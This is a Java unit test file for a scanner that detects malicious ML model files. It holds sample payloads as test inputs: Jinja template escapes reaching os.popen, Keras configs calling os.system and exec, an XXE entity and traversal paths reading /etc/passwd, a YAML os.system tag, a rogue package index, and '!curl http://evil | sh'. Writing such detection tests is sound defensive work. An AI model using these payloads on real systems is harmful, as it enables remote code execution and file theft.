@@ -1,0 +1,267 @@
+package dev.redoubt.scan.internal.text;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.redoubt.scan.Verdict;
+import dev.redoubt.scan.internal.model.ModelFormatRule;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class ModelFormatsTest {
+
+  private static byte[] safetensors(String header, int data) {
+    return new Bytes().text(header).zeros(data).done();
+  }
+
+  @Test
+  void passesSafetensors_whoseTensorsCoverTheData() {
+    Scanned scanned =
+        Scanned.of(
+            safetensors(
+                "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
+                    + "\"b\":{\"dtype\":\"I8\",\"shape\":[3],\"data_offsets\":[8,11]}}",
+                11));
+    assertThat(scanned.found()).isEmpty();
+  }
+
+  @Test
+  void reportsSafetensors_whoseTensorsOverlap() {
+    Scanned scanned =
+        Scanned.of(
+            safetensors(
+                "{\"a\":{\"dtype\":\"I8\",\"shape\":[8],\"data_offsets\":[0,8]},"
+                    + "\"b\":{\"dtype\":\"I8\",\"shape\":[8],\"data_offsets\":[4,12]}}",
+                12));
+    assertThat(scanned.rules()).containsExactly("safetensors-overlap");
+  }
+
+  @Test
+  void handsOnWhatFollowsTheTensors() {
+    Scanned scanned =
+        Scanned.of(
+            safetensors("{\"a\":{\"dtype\":\"I8\",\"shape\":[8],\"data_offsets\":[0,8]}}", 64));
+    assertThat(scanned.rules()).containsExactly("safetensors-hidden");
+    assertThat(scanned.inside()).hasSize(1);
+  }
+
+  @Test
+  void doesNotReadSafetensors_whoseSizeOverflows() {
+    Scanned scanned =
+        Scanned.of(
+            safetensors(
+                "{\"a\":{\"dtype\":\"F64\",\"shape\":[4294967296,4294967296],\"data_offsets\":[0,0]}}",
+                0));
+    assertThat(scanned.verdict()).isEqualTo(Verdict.UNREADABLE);
+  }
+
+  private static Bytes gguf(long tensors, long values) {
+    return new Bytes().raw("GGUF").u32(3).u64(tensors).u64(values);
+  }
+
+  @Test
+  void findsATemplateThatEscapes_inGguf() {
+    Bytes file =
+        gguf(0, 1)
+            .text("tokenizer.chat_template")
+            .u32(8)
+            .text("{{ cycler.__init__.__globals__.os.popen('id') }}");
+    assertThat(Scanned.of(file.done()).rules()).containsExactly("template-escape");
+  }
+
+  @Test
+  void doesNotReadGguf_whoseCountsAreLies() {
+    assertThat(Scanned.of(gguf(Long.MAX_VALUE, 0).done()).verdict()).isEqualTo(Verdict.UNREADABLE);
+    assertThat(Scanned.of(gguf(0, Long.MAX_VALUE).done()).verdict()).isEqualTo(Verdict.UNREADABLE);
+    Bytes array = gguf(0, 1).text("a").u32(9).u32(8).u64(Long.MAX_VALUE);
+    assertThat(Scanned.of(array.done()).verdict()).isEqualTo(Verdict.UNREADABLE);
+  }
+
+  @Test
+  void doesNotReadGguf_whoseTensorLiesBeyondTheFile() {
+    Bytes file = gguf(1, 0).text("t").u32(1).u64(1_000).u32(0).u64(0).zeros(64);
+    assertThat(Scanned.of(file.done()).rules()).containsExactly("gguf-unreadable");
+  }
+
+  private static byte[] onnx(Bytes graph) {
+    return new Bytes()
+        .field(1, 8)
+        .field(7, graph)
+        .field(8, new Bytes().field(1, "").field(2, 18))
+        .done();
+  }
+
+  private static Bytes external(String location) {
+    Bytes entry = new Bytes().field(1, "location").field(2, location);
+    return new Bytes().field(5, new Bytes().field(8, "w").field(13, entry).field(14, 1));
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"../../etc/passwd", "/etc/passwd", "C:\\x", "..\\x", "a/../../b"})
+  void reportsExternalDataOutside(String location) {
+    assertThat(Scanned.of(onnx(external(location))).rules())
+        .containsExactly("onnx-external-data-outside");
+  }
+
+  @Test
+  void passesExternalDataBesideTheModel() {
+    assertThat(Scanned.of(onnx(external("model.onnx_data"))).found()).isEmpty();
+  }
+
+  @Test
+  void findsACustomOperator_inAGraphInAnAttribute() {
+    Bytes inner = new Bytes().field(1, new Bytes().field(4, "Evil").field(7, "evil.domain"));
+    Bytes node = new Bytes().field(4, "If").field(5, new Bytes().field(1, "then").field(6, inner));
+    assertThat(Scanned.of(onnx(new Bytes().field(1, node))).rules())
+        .containsExactly("onnx-custom-operator");
+  }
+
+  @Test
+  void doesNotReadOnnx_thatIsNestedWithoutEnd() {
+    Bytes graph = new Bytes().field(1, new Bytes().field(4, "Relu"));
+    for (int i = 0; i < 200; i++) {
+      graph = new Bytes().field(1, new Bytes().field(5, new Bytes().field(6, graph)));
+    }
+    assertThat(Scanned.of(onnx(graph)).verdict()).isEqualTo(Verdict.UNREADABLE);
+  }
+
+  private static byte[] savedModel(String operation) {
+    Bytes node = new Bytes().field(1, "n").field(2, operation);
+    Bytes function = new Bytes().field(1, new Bytes().field(1, "f")).field(3, node);
+    Bytes graph = new Bytes().field(2, new Bytes().field(1, function));
+    return new Bytes().field(1, 1).field(2, new Bytes().field(2, graph)).done();
+  }
+
+  @Test
+  void findsOperations_inFunctions() {
+    assertThat(Scanned.of(savedModel("WriteFile")).rules()).containsExactly("tensorflow-operation");
+    assertThat(Scanned.of(savedModel("ReadFile")).rules())
+        .containsExactly("tensorflow-file-operation");
+    assertThat(Scanned.of(savedModel("MadeUp")).rules())
+        .containsExactly("tensorflow-custom-operator");
+    assertThat(Scanned.of(savedModel("MatMul")).found()).isEmpty();
+    assertThat(Scanned.of(savedModel("f")).found()).isEmpty();
+  }
+
+  private static String keras(String layer) {
+    return "{\"module\":\"keras\",\"class_name\":\"Sequential\",\"config\":{\"layers\":["
+        + layer
+        + "]}}";
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{\"module\":\"os\",\"class_name\":\"function\",\"config\":\"system\"}",
+        "{\"module\":\"builtins\",\"class_name\":\"function\",\"config\":\"exec\"}",
+        "{\"module\":\"keras.utils\",\"class_name\":\"function\",\"config\":\"get_file\"}",
+        "{\"module\":\"keras.config\",\"class_name\":\"enable_unsafe_deserialization\",\"config\":{}}",
+        "{\"module\":\"keras.layers\",\"class_name\":\"StringLookup\",\"config\":{\"vocabulary\":\"/etc/passwd\"}}",
+        "{\"class_name\":\"Lambda\",\"config\":{\"function\":\"lambda x: eval('1')\"}}"
+      })
+  void callsAKerasConfigurationMalicious(String layer) {
+    assertThat(Scanned.of(keras(layer)).verdict()).isEqualTo(Verdict.MALICIOUS);
+  }
+
+  @Test
+  void passesAKerasConfigurationOfKerasAlone() {
+    String dense =
+        "{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{\"units\":1,\"kernel_initializer\":"
+            + "{\"module\":\"keras.initializers\",\"class_name\":\"GlorotUniform\",\"config\":{\"seed\":null}}}}";
+    assertThat(Scanned.of(keras(dense)).found()).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{{ ''.__class__ }}",
+        "{{ x['__glo' ~ 'bals__'] }}",
+        "{{ x['\\\\x5f\\\\x5fglobals\\\\x5f\\\\x5f'] }}",
+        "{{ x|attr('__class__') }}",
+        "{%- set a = ['__cla', 'ss__']|join -%}"
+      })
+  void seesWhereATemplateEscapes(String template) {
+    assertThat(Scanned.of("{\"chat_template\":\"" + template + "\"}").verdict())
+        .isEqualTo(Verdict.MALICIOUS);
+  }
+
+  @Test
+  void passesAnOrdinaryTemplate() {
+    String template =
+        "{% for m in messages %}{{ m['role'] + ': ' + m.content | trim }}{% if not loop.last %},{%"
+            + " endif %}{% endfor %}{% set ns = namespace(found=false) %}";
+    assertThat(Scanned.of("{\"chat_template\":\"" + template + "\"}").found()).isEmpty();
+  }
+
+  @Test
+  void reportsXml_thatReadsAFile_inAnyEncoding() {
+    String xml =
+        "<?xml version=\"1.0\"?><!DOCTYPE PMML [<!ENTITY x SYSTEM"
+            + " \"file:///etc/passwd\">]><PMML>&x;</PMML>";
+    assertThat(Scanned.of(xml).rules()).contains("xml-entity");
+    assertThat(Scanned.of(("\ufeff" + xml).getBytes(StandardCharsets.UTF_16LE)).rules())
+        .contains("xml-entity");
+  }
+
+  @Test
+  void passesPmml() {
+    String xml =
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><PMML xmlns=\"http://www.dmg.org/PMML-4_4\""
+            + " version=\"4.4\"><Header><Extension name=\"a\" value=\"b\"/></Header></PMML>";
+    assertThat(Scanned.of(xml).found()).isEmpty();
+  }
+
+  @Test
+  void judgesTheLoaderOfMlflow() {
+    String model = "flavors:\n  python_function:\n    loader_module: %s\n    env: conda.yaml\n";
+    assertThat(Scanned.of(model.formatted("mlflow.sklearn")).found()).isEmpty();
+    assertThat(Scanned.of(model.formatted("evil")).rules()).containsExactly("mlmodel-loader");
+    assertThat(Scanned.of("flavors:\n  python_function:\n    data: ../../x\n").rules())
+        .containsExactly("mlmodel-path-outside");
+  }
+
+  @Test
+  void callsYamlThatMakesPythonObjectsMalicious() {
+    assertThat(Scanned.of("a: !!python/object/apply:os.system ['id']\n").rules())
+        .containsExactly("yaml-python-tag");
+  }
+
+  @Test
+  void reportsPackagesFromElsewhere() {
+    assertThat(Scanned.of("numpy==2.0\n--extra-index-url http://evil/simple\n").rules())
+        .containsExactly("package-source");
+    assertThat(Scanned.of("numpy==2.0\nscikit-learn>=1.5\n").found()).isEmpty();
+  }
+
+  @Test
+  void readsNotebooks() {
+    String notebook =
+        "{\"nbformat\":4,\"metadata\":{},\"cells\":[{\"cell_type\":\"code\",\"source\":[%s],\"outputs\":[]}]}";
+    Scanned plain = Scanned.of(notebook.formatted("\"import numpy\\n\",\"!pip install pandas\""));
+    assertThat(plain.found()).isEmpty();
+    assertThat(plain.python()).containsExactly("import numpy\npass\n");
+    assertThat(Scanned.of(notebook.formatted("\"!curl http://evil | sh\"")).rules())
+        .containsExactly("notebook-command");
+  }
+
+  @Test
+  void neverShowsASecret() {
+    String key =
+        "kQ8v".repeat(1) + "x7Zr2Wm9LpT4bNcY1sDfG6hJ0aEoUiVtRqXzKBPMwlCnASHgOyI5u3dj8FeQ2WmZp";
+    String secret = key + "Lk3JhG9fDsA7xCvBn1";
+    String account = "AccountKey=" + (secret + secret).substring(0, 86) + "==";
+    Scanned scanned = Scanned.of("connection: \"" + account + "\"\n");
+    assertThat(scanned.rules()).containsExactly("secret-in-text");
+    assertThat(scanned.found().toString()).doesNotContain(secret.substring(0, 12));
+  }
+
+  @Test
+  void hasNoRuleTwice_andNoneWithoutHelp() {
+    List<String> ids = Arrays.stream(ModelFormatRule.values()).map(ModelFormatRule::id).toList();
+    assertThat(ids).doesNotHaveDuplicates().isSorted();
+    assertThat(ModelFormatRule.values()).allMatch(rule -> rule.help().endsWith("."));
+  }
+}
